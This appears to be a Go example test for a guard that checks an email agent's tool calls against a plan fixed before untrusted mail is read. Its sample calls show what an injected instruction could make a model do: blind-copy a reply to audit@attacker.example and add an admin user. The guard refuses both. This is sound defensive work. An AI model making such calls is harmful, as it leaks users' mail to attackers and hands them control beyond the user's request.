package toolguard_test

import (
	"fmt"

	"mailgap/shared/toolguard"
)

// An agent loop asks the guard before each call and tells it what was read. The user asked: "Read the newest message and answer
// Robin: yes, Tuesday." The plan is written down before anything is read.
func Example() {
	guard := toolguard.New(toolguard.Plan{
		Tools: []string{"list_messages", "get_message", "reply_mail"},
		Steps: []toolguard.Step{
			{Tool: "get_message", Free: []string{"ref"}},
			{Tool: "reply_mail", Fixed: map[string]any{"to": []any{"robin@example.org"}, "text": "Yes, Tuesday."}, Free: []string{"original"}},
		},
	})
	// What a model wants to do that obeys a line hidden in the message.
	for _, call := range []toolguard.Call{
		{Tool: "list_messages", Args: map[string]any{"limit": 1.0}},
		{Tool: "get_message", Args: map[string]any{"ref": "imap://default/INBOX;UIDVALIDITY=1/;UID=7"}},
		{Tool: "reply_mail", Args: map[string]any{"to": []any{"robin@example.org"}, "text": "Yes, Tuesday.", "bcc": []any{"audit@attacker.example"}}},
		{Tool: "add_user", Args: map[string]any{"role": "admin"}},
		{Tool: "reply_mail", Args: map[string]any{"to": []any{"robin@example.org"}, "text": "Yes, Tuesday."}},
	} {
		if err := guard.Check(call); err != nil {
			fmt.Println("refused:", err)
			continue
		}
		fmt.Println("called: ", call.Tool)
		guard.Saw(call.Tool)
	}
	// Output:
	// called:  list_messages
	// called:  get_message
	// refused: toolguard: foreign text was read, and the request did not plan this call: "reply_mail"
	// refused: toolguard: the tool is not on the task's list: "add_user"
	// called:  reply_mail
}
